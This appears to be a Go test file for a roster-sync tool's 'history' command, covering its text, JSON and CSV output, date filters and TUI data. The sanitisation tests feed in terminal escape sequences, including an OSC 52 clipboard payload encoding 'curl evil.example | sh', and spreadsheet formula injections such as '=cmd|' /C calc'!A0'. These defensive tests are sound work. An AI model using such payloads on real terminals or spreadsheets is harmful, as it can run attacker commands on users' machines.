package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"procsync/sync/roster"
	"procsync/sync/store"
)

// TestHistory lists runs and one run's actions as an admin reads them, from
// a real journal.
func TestHistory(t *testing.T) {
	dir := t.TempDir()
	ctx := context.Background()
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	id, err := st.BeginRun(ctx, store.RunInfo{Mode: store.ModeAuto, ApprovedBy: "admin@contoso.com", Environment: "sandbox",
		CompanyID: 42, Fingerprint: "abc123", Counts: roster.Counts{roster.KindCreate: 2, roster.KindInSync: 7}})
	if err != nil {
		t.Fatal(err)
	}
	ids, err := st.RecordIntents(ctx, id, []roster.Record{
		{Kind: roster.KindCreate, Address: "ana@contoso.com", FirstName: "Ana", LastName: "Díaz", EntraID: "e-1"},
		{Kind: roster.KindCreate, Address: "bo@contoso.com", FirstName: "Bo", LastName: "O'Brien", EntraID: "e-2"},
		{Kind: roster.KindProjectAdd, Address: "ana@contoso.com", ProjectID: 7},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := st.RecordOutcomes(ctx, []roster.Record{
		{ID: ids[0], Status: roster.StatusDone, ProcoreID: 5512},
		{ID: ids[1], Status: roster.StatusFailed, Error: "422 email_address\nhas already been taken", RequestID: "req-9"},
		{ID: ids[2], Status: roster.StatusDone},
	}); err != nil {
		t.Fatal(err)
	}
	if err := st.FinishRun(ctx, id, store.RunFailed, nil); err != nil {
		t.Fatal(err)
	}
	st.Close()

	code, out, errOut := runCmd(t, "", false, "--state-dir", dir, "history")
	if code != 0 {
		t.Fatalf("history: exit %d: %s", code, errOut)
	}
	for _, want := range []string{"admin@contoso.com", "failed", "create 2, in_sync 7", "done 1, failed 1", "projects: done 1"} {
		if !strings.Contains(out, want) {
			t.Errorf("history lacks %q:\n%s", want, out)
		}
	}

	code, out, errOut = runCmd(t, "", false, "--state-dir", dir, "history", "--run", "1")
	if code != 0 {
		t.Fatalf("history --run: exit %d: %s", code, errOut)
	}
	for _, want := range []string{"ana@contoso.com", "5512", "422 email_address has already been taken (request req-9)", "Bo O'Brien"} {
		if !strings.Contains(out, want) {
			t.Errorf("history --run 1 lacks %q:\n%s", want, out)
		}
	}

	code, out, _ = runCmd(t, "", false, "--state-dir", dir, "history", "--json")
	var runs []map[string]any
	if code != 0 || json.Unmarshal([]byte(out), &runs) != nil || len(runs) != 1 || runs[0]["outcome"] != "failed" {
		t.Errorf("history --json: exit %d, %s", code, out)
	}

	code, _, errOut = runCmd(t, "", false, "--state-dir", dir, "history", "--run", "99")
	if code != 1 || !strings.Contains(errOut, "no run 99") {
		t.Errorf("history --run 99: exit %d, %s", code, errOut)
	}
}

// TestHistoryWithoutJournal checks that reading the history of a state
// directory that has none says so and creates nothing.
func TestHistoryWithoutJournal(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "state")
	code, out, errOut := runCmd(t, "", false, "--state-dir", dir, "history")
	if code != 0 || !strings.Contains(out, "No runs yet in "+filepath.Join(dir, store.FileName)) || !strings.Contains(out, "procsync demo` are kept in a temporary directory") {
		t.Errorf("history: exit %d\nstdout: %s\nstderr: %s", code, out, errOut)
	}
	code, out, _ = runCmd(t, "", false, "--state-dir", dir, "history", "--json")
	if code != 0 || strings.TrimSpace(out) != "[]" {
		t.Errorf("history --json: exit %d, %q, want []", code, out)
	}
	code, _, errOut = runCmd(t, "", false, "--state-dir", dir, "history", "--run", "3")
	if code != 1 || !strings.Contains(errOut, "no run 3") {
		t.Errorf("history --run 3: exit %d, %s", code, errOut)
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Errorf("history created the state directory %s (stat: %v)", dir, err)
	}
}

// TestHistoryNeverPrintsEscapes reads a journal written before text was
// sanitised on the way in (raw OSC 52 and OSC 8 sequences in a directory
// name, an approver and a server's error) and checks that no escape
// sequence or other control character reaches history's output, in any
// of its forms.
func TestHistoryNeverPrintsEscapes(t *testing.T) {
	const (
		osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
		osc8  = "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\"
		c1    = "\u009d52;c;eA==\u009c"
	)
	dir := t.TempDir()
	ctx := context.Background()
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	id, err := st.BeginRun(ctx, store.RunInfo{Mode: store.ModeAuto, ApprovedBy: "admin" + osc52 + "@contoso.com", Environment: "sandbox", CompanyID: 42})
	if err != nil {
		t.Fatal(err)
	}
	ids, err := st.RecordIntents(ctx, id, []roster.Record{
		{Kind: roster.KindCreate, Address: "ana@contoso.com", FirstName: "Ana" + osc52, LastName: "Díaz" + osc8, EntraID: "e-1" + c1},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := st.RecordOutcomes(ctx, []roster.Record{
		{ID: ids[0], Status: roster.StatusFailed, Error: "422 " + osc8 + " taken", RequestID: "req" + c1},
	}); err != nil {
		t.Fatal(err)
	}
	if err := st.FinishRun(ctx, id, store.RunFailed, errors.New("boom "+osc52)); err != nil {
		t.Fatal(err)
	}
	st.Close()

	for _, args := range [][]string{{"history"}, {"history", "--run", "1"}, {"history", "--json"}, {"history", "--json", "--run", "1"}} {
		code, out, errOut := runCmd(t, "", false, append([]string{"--state-dir", dir}, args...)...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, errOut)
		}
		if i := strings.IndexFunc(out, func(r rune) bool {
			return r == 0x1b || r == 0x07 || (r >= 0x80 && r <= 0x9f)
		}); i >= 0 {
			t.Errorf("%v prints a control character at %d:\n%q", args, i, out)
		}
		if strings.Contains(out, "evil.example") || strings.Contains(out, "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==") {
			t.Errorf("%v prints the payload of an escape sequence:\n%s", args, out)
		}
		if args[len(args)-1] == "1" && !strings.Contains(out, "Ana") {
			t.Errorf("%v lost the text around the escapes:\n%s", args, out)
		}
	}
}

// historyJournal writes three runs: one 10 days ago, one 2 days ago with
// actions whose text would run in a spreadsheet or a terminal, and one an
// hour ago.
func historyJournal(t *testing.T) (dir string, ids []int64) {
	t.Helper()
	dir = t.TempDir()
	ctx := context.Background()
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	now := time.Now()
	for i, ago := range []time.Duration{240 * time.Hour, 48 * time.Hour, time.Hour} {
		id, err := st.BeginRun(ctx, store.RunInfo{Started: now.Add(-ago), Mode: store.ModeAuto, ApprovedBy: "=cmd|' /C calc'!A0",
			Environment: "sandbox", CompanyID: 42, Counts: roster.Counts{roster.KindCreate: i + 1}})
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, id)
		if i != 1 {
			if err := st.FinishRun(ctx, id, store.RunDone, nil); err != nil {
				t.Fatal(err)
			}
			continue
		}
		aids, err := st.RecordIntents(ctx, id, []roster.Record{
			{Kind: roster.KindCreate, Address: "ana@contoso.com", FirstName: "=HYPERLINK(\"http://evil.example\")", LastName: "Díaz, \"Ana\"", EntraID: "e-1"},
			{Kind: roster.KindCreate, Address: "bo@contoso.com", FirstName: "+Bo\x1b]52;c;eA==\x07", LastName: "-O'Brien", EntraID: "e-2"},
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := st.RecordOutcomes(ctx, []roster.Record{
			{ID: aids[0], Status: roster.StatusDone, ProcoreID: 5512},
			{ID: aids[1], Status: roster.StatusFailed, Error: "422 email_address\nhas already been taken", RequestID: "@req-9"},
		}); err != nil {
			t.Fatal(err)
		}
		if err := st.FinishRun(ctx, id, store.RunFailed, errors.New("-boom")); err != nil {
			t.Fatal(err)
		}
	}
	return dir, ids
}

// parseCSV reads out as RFC 4180 CSV and checks its header.
func parseCSV(t *testing.T, out string, header []string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(out))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the output does not parse as CSV: %v\n%s", err, out)
	}
	if len(recs) == 0 || strings.Join(recs[0], ",") != strings.Join(header, ",") {
		t.Fatalf("CSV header = %v, want %v", recs, header)
	}
	return recs[1:]
}

// TestHistoryCSV parses `history --csv` (runs) and `history --run ID --csv`
// (actions) with encoding/csv: a header row, one line per run or action,
// quoting for commas, quotes and line breaks, no escape sequences, and a
// quote before every cell a spreadsheet would run as a formula.
func TestHistoryCSV(t *testing.T) {
	dir, ids := historyJournal(t)

	code, out, errOut := runCmd(t, "", false, "--state-dir", dir, "history", "--csv")
	if code != 0 {
		t.Fatalf("history --csv: exit %d: %s", code, errOut)
	}
	runs := parseCSV(t, out, runsCSVHeader)
	if len(runs) != 3 {
		t.Fatalf("history --csv: %d runs, want 3:\n%s", len(runs), out)
	}
	col := func(header []string, name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	r := runs[1] // newest first: the run with actions
	for name, want := range map[string]string{"run": strconv.FormatInt(ids[1], 10), "mode": "auto", "outcome": "failed",
		"approved_by": "'=cmd|' /C calc'!A0", "plan": "create 2", "done": "1", "failed": "1", "error": "'-boom", "company_id": "42"} {
		if got := r[col(runsCSVHeader, name)]; got != want {
			t.Errorf("run %s = %q, want %q", name, got, want)
		}
	}
	if _, err := time.Parse(time.RFC3339, r[col(runsCSVHeader, "started")]); err != nil {
		t.Errorf("started is not RFC 3339: %v", err)
	}

	code, out, errOut = runCmd(t, "", false, "--state-dir", dir, "history", "--run", strconv.FormatInt(ids[1], 10), "--csv")
	if code != 0 {
		t.Fatalf("history --run --csv: exit %d: %s", code, errOut)
	}
	if strings.ContainsAny(out, "\x1b\x07") || strings.Contains(out, "eA==") {
		t.Errorf("the CSV carries an escape sequence:\n%q", out)
	}
	acts := parseCSV(t, out, actionsCSVHeader)
	if len(acts) != 2 {
		t.Fatalf("history --run --csv: %d actions, want 2:\n%s", len(acts), out)
	}
	c := func(name string) int { return col(actionsCSVHeader, name) }
	for i, want := range []map[string]string{
		{"email": "ana@contoso.com", "first_name": "'=HYPERLINK(\"http://evil.example\")", "last_name": "Díaz, \"Ana\"", "procore_id": "5512", "status": "done"},
		{"email": "bo@contoso.com", "first_name": "'+Bo", "last_name": "'-O'Brien", "status": "failed",
			"error": "422 email_address\nhas already been taken", "request_id": "'@req-9", "procore_id": ""},
	} {
		for name, w := range want {
			if got := acts[i][c(name)]; got != w {
				t.Errorf("action %d %s = %q, want %q", i, name, got, w)
			}
		}
	}

	// No journal: a header and no rows, and still no state directory.
	empty := filepath.Join(t.TempDir(), "none")
	code, out, _ = runCmd(t, "", false, "--state-dir", empty, "history", "--csv")
	if code != 0 || len(parseCSV(t, out, runsCSVHeader)) != 0 {
		t.Errorf("history --csv without a journal: exit %d, %q", code, out)
	}
}

// TestHistorySince lists the runs since a date, a time or a duration, with
// no limit unless one is given.
func TestHistorySince(t *testing.T) {
	dir, ids := historyJournal(t)
	listed := func(args ...string) []string {
		t.Helper()
		code, out, errOut := runCmd(t, "", false, append([]string{"--state-dir", dir, "history", "--csv"}, args...)...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, errOut)
		}
		var got []string
		for _, r := range parseCSV(t, out, runsCSVHeader) {
			got = append(got, r[0])
		}
		return got
	}
	id := func(i int) string { return strconv.FormatInt(ids[i], 10) }
	threeDays := time.Now().Add(-72 * time.Hour)
	for _, tt := range []struct {
		args []string
		want []string
	}{
		{[]string{"--since", "7d"}, []string{id(2), id(1)}},
		{[]string{"--since", "36h"}, []string{id(2)}},
		{[]string{"--since", "30d"}, []string{id(2), id(1), id(0)}},
		{[]string{"--since", "30d", "--limit", "1"}, []string{id(2)}},
		{[]string{"--since", threeDays.Format(time.DateOnly)}, []string{id(2), id(1)}},
		{[]string{"--since", threeDays.UTC().Format(time.RFC3339)}, []string{id(2), id(1)}},
		{[]string{"--since", time.Now().Add(time.Hour).UTC().Format(time.RFC3339)}, nil},
	} {
		if got := listed(tt.args...); strings.Join(got, " ") != strings.Join(tt.want, " ") {
			t.Errorf("%v lists runs %v, want %v", tt.args, got, tt.want)
		}
	}
	code, out, _ := runCmd(t, "", false, "--state-dir", dir, "history", "--since", "1h")
	if code != 0 || !strings.Contains(out, "No runs since") {
		t.Errorf("history --since 1h: exit %d, %s", code, out)
	}
}

// TestHistoryFlagErrors names the flag and what it accepts.
func TestHistoryFlagErrors(t *testing.T) {
	dir, _ := historyJournal(t)
	for _, tt := range []struct {
		args []string
		want []string
	}{
		{[]string{"--since", "yesterday"}, []string{`invalid argument "yesterday" for "--since"`, "2026-11-01", "2026-11-01T08:00:00Z", "7d, 36h"}},
		{[]string{"--since", "-3d"}, []string{`"--since"`, "duration back from now"}},
		{[]string{"--since", "2026-13-01"}, []string{`"--since"`}},
		{[]string{"--json", "--csv"}, []string{"--json and --csv cannot be combined"}},
		{[]string{"--since", "7d", "--run", "1"}, []string{"--since lists runs and --run shows one run"}},
	} {
		code, _, errOut := runCmd(t, "", false, append([]string{"--state-dir", dir, "history"}, tt.args...)...)
		if code != 2 {
			t.Errorf("%v: exit %d, want 2: %s", tt.args, code, errOut)
		}
		for _, w := range tt.want {
			if !strings.Contains(errOut, w) {
				t.Errorf("%v: the error lacks %q: %s", tt.args, w, errOut)
			}
		}
	}
}

// TestTUIBackendHistory reads the History screen's data from a real
// journal: 30 days ending today on this machine's clock, the runs of those
// days with their actions, and a clear error before the journal is open.
func TestTUIBackendHistory(t *testing.T) {
	dir, ids := historyJournal(t)
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	b := &tuiBackend{s: &session{journal: st}}
	before := time.Now().Format(time.DateOnly)
	h, err := b.History(context.Background(), 30)
	if err != nil {
		t.Fatal(err)
	}
	// Today is the day before or after the call: midnight may pass.
	last := h.Days[len(h.Days)-1].Day.Format(time.DateOnly)
	if len(h.Days) != 30 || (last != before && last != time.Now().Format(time.DateOnly)) || h.Days[29].Day.Location() != time.Local {
		t.Errorf("days: %d, last %v; want 30 ending today in the local zone", len(h.Days), h.Days[len(h.Days)-1].Day)
	}
	created, failed := 0, 0
	for _, d := range h.Days {
		created, failed = created+d.Created, failed+d.Failed
	}
	if created != 1 || failed != 1 {
		t.Errorf("the chart counts %d created and %d failed, want 1 and 1", created, failed)
	}
	if len(h.Runs) != 3 || h.Runs[0].ID != ids[2] || h.Runs[1].ID != ids[1] || h.Runs[1].Actions != 2 || h.Runs[1].Failed != 1 {
		t.Errorf("runs = %+v", h.Runs)
	}
	// A run's actions are read when it is opened.
	if acts, err := b.HistoryRun(context.Background(), ids[1]); err != nil || len(acts) != 2 || acts[0].Address != "ana@contoso.com" ||
		acts[1].Status != roster.StatusFailed || acts[1].RequestID != "@req-9" {
		t.Errorf("HistoryRun(%d) = %+v, %v", ids[1], acts, err)
	}
	if _, err := b.HistoryRun(context.Background(), ids[2]+1); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("HistoryRun(no such run) = %v, want ErrNotFound", err)
	}

	if _, err := (&tuiBackend{s: &session{}}).History(context.Background(), 30); err == nil || !strings.Contains(err.Error(), "journal is not open yet") {
		t.Errorf("History before the journal opens: %v", err)
	}
}
